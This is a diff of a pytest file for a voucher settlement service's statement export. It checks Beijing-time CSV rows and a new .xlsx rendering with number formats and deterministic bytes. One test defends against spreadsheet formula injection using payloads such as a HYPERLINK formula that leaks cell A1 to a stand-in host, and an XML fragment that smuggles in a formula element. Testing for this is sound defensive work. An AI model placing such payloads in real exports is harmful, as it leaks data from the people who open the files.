@@ -1,5 +1,7 @@
 """The settlement's pure rules: the whole transition table, periods counted in Asia/Shanghai,
-the period refusals, and the CSV statement (BOM, Chinese header, totals, every minor digit)."""
+the period refusals, and the statement as CSV (BOM, Chinese header, Beijing times with their
+offset, totals, every minor digit) and as .xlsx (the same rows: amounts as numbers with the
+unit's format, times as Beijing date-times, the header frozen, the same bytes for the same lines)."""
 
 from __future__ import annotations
 
@@ -9,6 +11,7 @@ import io
 import itertools
 from datetime import UTC, date, datetime, timedelta
 from decimal import Decimal
+from pathlib import Path
 
 import pytest
 
@@ -23,7 +26,15 @@ from services.voucher.settlement.rules import (
     period_bounds,
     period_problems,
 )
-from services.voucher.settlement.statement import HEADER, Line, digest, render_csv
+from services.voucher.settlement.statement import (
+    HEADER,
+    Line,
+    digest,
+    render_csv,
+    render_xlsx,
+    statement_title,
+)
+from tests.exports import xlsx
 
 S = SettlementStatus
 
@@ -135,16 +146,16 @@ def test_periods_that_cannot(first: date, last: date, fragment: str) -> None:
     problems = period_problems(first, last, TODAY)
     assert len(problems) == 1
     field, message = problems[0]
-    assert field == "period_end" and fragment in message
+    assert field == "period_end" and fragment in str(message)
 
 
 def test_every_problem_is_reported() -> None:
     problems = period_problems(date(2026, 3, 12), date(2026, 3, 11), TODAY)
     assert [f for f, _ in problems] == ["period_end", "period_end"]
-    assert "before" in problems[0][1] and "over" in problems[1][1]
+    assert "before" in str(problems[0][1]) and "over" in str(problems[1][1])
 
 
-# -- the CSV statement ----------------------------------------------------------------------------
+# -- the statement, as CSV and as .xlsx -----------------------------------------------------------
 
 AT = datetime(2026, 3, 2, 1, 0, tzinfo=UTC)
 TITLE = "结算单 Settlement 0190 · 2026-03-02...2026-03-02 (Asia/Shanghai)"
@@ -185,11 +196,12 @@ def test_bom_first_and_the_csv_module_reads_it_back() -> None:
     assert rows[1] == ["单位 unit: CNY"]
     assert rows[2] == list(HEADER)
     assert rows[2] == ["序号 line", "类型 kind", "订单号 order_reference", "核销编号 redemption_id",
-                       "退款编号 refund_id", "发生时间 occurred_at (UTC)", "金额 amount"]
-    assert rows[3] == ["1", "核销 capture", "PO-1", "r-1", "", "2026-03-02T01:00:00+00:00", "3000.00"]
-    assert rows[4] == ["2", "核销 capture", "订单,\"甲\"\n第二行", "r-2", "", "2026-03-02T02:00:00+00:00", "1234.56"]
-    assert rows[5] == ["3", "退款 refund", "PO-1", "r-1", "f-1", "2026-03-02T03:00:00+00:00", "-5.00"]
-    assert rows[6] == ["4", "退款 refund", "PO-9", "r-9", "f-9", "2026-03-02T04:00:00+00:00", "-0.05"]
+                       "退款编号 refund_id", "发生时间 occurred_at (Asia/Shanghai)", "金额 amount"]
+    # Beijing time, the offset written: the period in the title is Beijing days too
+    assert rows[3] == ["1", "核销 capture", "PO-1", "r-1", "", "2026-03-02T09:00:00+08:00", "3000.00"]
+    assert rows[4] == ["2", "核销 capture", "订单,\"甲\"\n第二行", "r-2", "", "2026-03-02T10:00:00+08:00", "1234.56"]
+    assert rows[5] == ["3", "退款 refund", "PO-1", "r-1", "f-1", "2026-03-02T11:00:00+08:00", "-5.00"]
+    assert rows[6] == ["4", "退款 refund", "PO-9", "r-9", "f-9", "2026-03-02T12:00:00+08:00", "-0.05"]
     assert rows[7] == ["合计 total", "", "", "", "", "", "4229.51"]
     assert len(rows) == 8
     assert "合计".encode() in document and "订单号".encode() in document
@@ -236,5 +248,74 @@ def test_a_period_before_2000_is_refused_before_any_date_arithmetic() -> None:
 
     from services.voucher.settlement.rules import period_problems as _problems
 
-    assert _problems(_date(1, 1, 1), _date(1, 1, 2), _date(2026, 3, 3)) == [
+    assert [(f, str(m)) for f, m in _problems(_date(1, 1, 1), _date(1, 1, 2), _date(2026, 3, 3))] == [
         ("period_start", "periods start on 2000-01-01 or later")]
+
+
+def test_a_time_is_written_in_beijing_time_across_midnight() -> None:
+    """16:30 UTC on 1 March is 00:30 on 2 March in Beijing: the day the statement's period counts."""
+    late = Line("capture", "PO-1", "r", None, datetime(2026, 3, 1, 16, 30, 15, 250000, tzinfo=UTC), 100)
+    rows = _read(render_csv(TITLE, Unit.CNY, [late]))
+    assert rows[3][5] == "2026-03-02T00:30:15.250000+08:00"
+    assert datetime.fromisoformat(rows[3][5]) == late.occurred_at
+
+
+def _workbook(tmp_path: Path, unit: Unit, lines: list[Line], title: str = TITLE) -> bytes:
+    path = tmp_path / f"statement-{len(list(tmp_path.iterdir()))}.xlsx"
+    render_xlsx(title, unit, lines, str(path), created=AT, directory=str(tmp_path))
+    return path.read_bytes()
+
+
+def test_the_xlsx_statement_has_the_csv_rows(tmp_path: Path) -> None:
+    document = _workbook(tmp_path, Unit.CNY, _lines())
+    [sheet] = xlsx.read(document)
+    csv_rows = _read(render_csv(TITLE, Unit.CNY, _lines()))
+    assert sheet.name == "结算单 statement" and sheet.frozen_rows == 3
+    assert len(sheet.widths) == len(HEADER)
+    values = sheet.values()
+    assert values[0] == [TITLE] and values[1] == ["单位 unit: CNY"] and values[2] == list(HEADER)
+    assert len(values) == len(csv_rows) == 8
+    for got, want in zip(sheet.rows[3:-1], csv_rows[3:-1], strict=True):
+        number, kind, reference, redemption, refund, at, amount = got + [xlsx.Cell(None)] * (7 - len(got))
+        assert (str(number.value), kind.value, reference.value, redemption.value, refund.value or "") == tuple(want[:5])
+        assert at.value == datetime.fromisoformat(want[5]).replace(tzinfo=None)  # Beijing wall clock
+        assert at.number_format == "yyyy-mm-dd hh:mm:ss"
+        assert (amount.value, amount.number_format) == (Decimal(want[6]), "#,##0.00")
+    total = sheet.rows[-1]
+    assert total[0].value == "合计 total" and total[6].value == Decimal("4229.51") == Decimal(csv_rows[-1][6])
+    assert not any(c.is_formula for row in sheet.rows for c in row)
+
+
+def test_the_xlsx_statement_is_the_same_bytes_for_the_same_lines(tmp_path: Path) -> None:
+    first = _workbook(tmp_path, Unit.CNY, _lines())
+    assert _workbook(tmp_path, Unit.CNY, _lines()) == first
+    changed = _lines()[:-1] + [Line("refund", "PO-9", "r-9", "f-9", AT + timedelta(hours=3), -6)]
+    assert _workbook(tmp_path, Unit.CNY, changed) != first
+
+
+def test_the_xlsx_statement_in_gpu_hours_and_tokens_and_empty(tmp_path: Path) -> None:
+    lines = [Line("capture", "PO-1", "r", None, AT, 1_500), Line("refund", "PO-1", "r", "f", AT, -250)]
+    [sheet] = xlsx.read(_workbook(tmp_path, Unit.GPU_HOUR, lines))
+    assert [(r[6].value, r[6].number_format) for r in sheet.rows[3:]] == [
+        (Decimal("1.5"), "#,##0.000"), (Decimal("-0.25"), "#,##0.000"), (Decimal("1.25"), "#,##0.000")]
+    [sheet] = xlsx.read(_workbook(tmp_path, Unit.TOKEN, [Line("capture", "PO-1", "r", None, AT, 1_000_000)]))
+    assert [(r[6].value, r[6].number_format) for r in sheet.rows[3:]] == [
+        (Decimal("1000000"), "#,##0"), (Decimal("1000000"), "#,##0")]
+    [sheet] = xlsx.read(_workbook(tmp_path, Unit.CNY, []))
+    assert len(sheet.rows) == 4 and sheet.rows[3][6].value == Decimal("0")
+
+
+def test_no_cell_of_the_xlsx_statement_runs_as_a_formula(tmp_path: Path) -> None:
+    attacks = ['=HYPERLINK("http://x/?leak="&A1,"Click")', "@SUM(A1)", "-2+3",
+               '<r><t>a</t></r></is></c><c r="Z9"><f>1+1</f></c><c t="inlineStr"><is><r><t>b</t></r>']
+    lines = [Line("capture", ref, f"r-{n}", None, AT, 100) for n, ref in enumerate(attacks)]
+    document = _workbook(tmp_path, Unit.CNY, lines, title="=title")
+    [sheet] = xlsx.read(document)
+    assert sheet.rows[0][0].value == "=title"
+    assert [r[2].value for r in sheet.rows[3:3 + len(attacks)]] == attacks
+    assert not any(c.is_formula for row in sheet.rows for c in row)
+    assert all("<f>" not in part for part in xlsx.sheet_xml(document))
+
+
+def test_the_title_names_the_settlement_and_its_beijing_period() -> None:
+    assert statement_title("0190", date(2026, 3, 2), date(2026, 3, 2)) == TITLE
